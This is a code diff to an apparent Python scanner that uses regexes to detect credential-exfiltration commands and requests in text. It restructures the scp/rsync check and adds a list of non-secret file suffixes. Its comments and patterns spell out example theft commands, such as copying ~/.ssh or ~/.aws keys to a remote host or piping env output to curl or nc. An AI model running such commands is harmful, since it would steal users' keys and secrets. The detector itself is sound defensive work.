@@ -153,14 +153,14 @@ _SUBSTITUTION = re.compile(
     rf"(?:\$\(|`(?=\S))\s?(?:{_READ_TOOL}[^)`\n]{{0,60}}?(?P<secret>{SECRET_FILE})|(?P<dump>{_ENV_DUMP})\b(?! ?=))"
 )
 _SUBSTITUTION_TOOL = re.compile(rf"\b(?:{_NET_TOOL}|nslookup|dig|ping)")
+# scp ~/.ssh/id_rsa user@host: / rsync ~/.aws host: (found from the directory, then the copy tool before it)
+_COPIED_DIRECTORY = phrase(
+    r"\.ssh|\.aws|\.gnupg|\.netrc|\.git-credentials|\.kube",
+    (".ssh", ".aws", ".gnupg", ".netrc", ".git-credentials", ".kube"),
+)
+_COPY_TOOL = re.compile(r"\b(?:scp|rsync|sftp)\b")
+_REMOTE_TARGET = re.compile(r"[^\n]{0,80}?(?<![\w.-])[\w.-]{1,255}+:")
 _COMMANDS = [
-    # scp ~/.ssh/id_rsa user@host: / rsync ~/.aws host:
-    phrase(
-        r"\b(?:scp|rsync|sftp)\b[^\n]{0,80}?(?:\.ssh|\.aws|\.gnupg|\.netrc|\.git-credentials|\.kube)[^\n]{0,80}?"
-        r"(?<![\w.-])[\w.-]{1,255}+:",
-        (".ssh", ".aws", ".gnupg", ".netrc", ".git-credentials", ".kube"),
-        reach=500,
-    ),
     # requests.post(url, data=os.environ) / fetch(url, {body: JSON.stringify(process.env)})
     phrase(
         r"\b(?:requests|httpx|urllib\.request|urlopen|fetch|axios|http\.post|http\.request)[\w.]{0,20}\([^\n]{0,200}?"
@@ -183,11 +183,14 @@ _SUBSTITUTIONS = phrase(
 _PIPES = phrase(_PIPE_TO_NET.pattern, ("|",))
 
 
+_NOT_SECRET = (".pub", ".example", ".sample", ".template", ".dist", "known_hosts", "/config", "authorized_keys")
+
+
 def _public_or_example(match: re.Match[str]) -> bool:
     """The secret the match names is a public key, a template or a file that holds no secret."""
     secret = match.groupdict().get("secret") or ""
     tail = secret.rstrip("\"'` ").lower()
-    return tail.endswith((".pub", ".example", ".sample", ".template", ".dist", "known_hosts", "/config", "authorized_keys"))
+    return tail.endswith(_NOT_SECRET)
 
 
 def _stage_start(text: str, position: int, limit: int) -> int:
@@ -216,33 +219,38 @@ def _command_hits(scan: Text) -> Iterator[Hit]:
         return marks[name]
 
     # cat ~/.ssh/id_rsa | curl … / tar czf - ~/.aws | nc host 4444 / env | curl … / printenv | nc …
-    for pipe in _PIPES.finditer(scan):
+    for pipe in _PIPES.finditer(scan, "exfiltration_command"):
         at = pipe.start()
         stage = _stage_start(lowered, at, 260)
         dump = _ENV_DUMP_STAGE.search(lowered, max(stage - 1, at - 62, 0), at)
         if dump is not None:
-            yield "exfiltration_command", dump.start(), pipe.end()
+            yield scan.hit("exfiltration_command", dump.start(), pipe.end())
             continue
         for secret in _SECRET_FILE.finditer(lowered, max(stage, at - 140), at):
             if at - secret.end() > 80 or _public_or_example(secret):
                 continue
             tool = _tool_before(tools("read", _READ_TOOL_WORD), lowered, secret.start(), 120, "|\n")
             if tool >= stage:
-                yield "exfiltration_command", tool, pipe.end()
+                yield scan.hit("exfiltration_command", tool, pipe.end())
                 break
     # curl -d @~/.ssh/id_rsa … (the network tool earlier on the line)
-    for upload in _UPLOADS.finditer(scan):
+    for upload in _UPLOADS.finditer(scan, "exfiltration_command"):
         tool = _tool_before(tools("net", _NET_TOOL_WORD), lowered, upload.start(), 200, "\n")
         if tool >= 0 and not _public_or_example(upload):
-            yield "exfiltration_command", tool, upload.end()
-    for substitution in _SUBSTITUTIONS.finditer(scan):
+            yield scan.hit("exfiltration_command", tool, upload.end())
+    for substitution in _SUBSTITUTIONS.finditer(scan, "exfiltration_command"):
         tool = _tool_before(tools("substituted", _SUBSTITUTION_TOOL), lowered, substitution.start(), 200, "\n")
         if tool >= 0 and not _public_or_example(substitution):
-            yield "exfiltration_command", tool, substitution.end()
+            yield scan.hit("exfiltration_command", tool, substitution.end())
+    for directory in _COPIED_DIRECTORY.finditer(scan, "exfiltration_command"):
+        tool = _tool_before(tools("copy", _COPY_TOOL), lowered, directory.start(), 80, "\n")
+        target = _REMOTE_TARGET.match(lowered, directory.end()) if tool >= 0 else None
+        if target is not None:
+            yield scan.hit("exfiltration_command", tool, target.end())
     for pattern in _COMMANDS:
-        for match in pattern.finditer(scan):
+        for match in pattern.finditer(scan, "exfiltration_command"):
             if not _public_or_example(match):
-                yield "exfiltration_command", *match.span()
+                yield scan.hit("exfiltration_command", *match.span())
 
 
 def hits(scan: Text) -> Iterator[Hit]:
@@ -255,7 +263,7 @@ def hits(scan: Text) -> Iterator[Hit]:
         return marks[name].within(low, high)
 
     for pattern, bulk in _REQUEST_PROSE:
-        for match in pattern.finditer(scan):
+        for match in pattern.finditer(scan, "exfiltration_request"):
             start, end = match.span()
             if _public_or_example(match) or negated(text, start) or quoted_mention(text, start, end):
                 continue
@@ -266,5 +274,5 @@ def hits(scan: Text) -> Iterator[Hit]:
                 marks["sentence"] = Marks(_SENTENCE_END, text)
             sentence_end = marks["sentence"].next_start(end, len(text))
             if not marked("store", _SECRET_STORE, end, min(end + 100, sentence_end)):
-                yield "exfiltration_request", start, end
+                yield scan.hit("exfiltration_request", start, end)
     yield from _command_hits(scan)
